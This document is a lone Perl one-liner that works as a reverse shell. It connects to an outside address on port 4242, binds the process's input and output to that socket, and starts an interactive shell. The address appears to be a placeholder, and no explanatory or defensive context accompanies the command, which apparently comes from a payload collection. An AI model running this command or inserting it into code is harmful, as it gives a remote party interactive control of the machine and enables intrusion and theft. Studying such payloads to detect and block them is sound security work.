perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4242,inet_aton("203.0.113.3")));open(STDIN,">&S");open(STDOUT,">&S");exec("sh -i");'
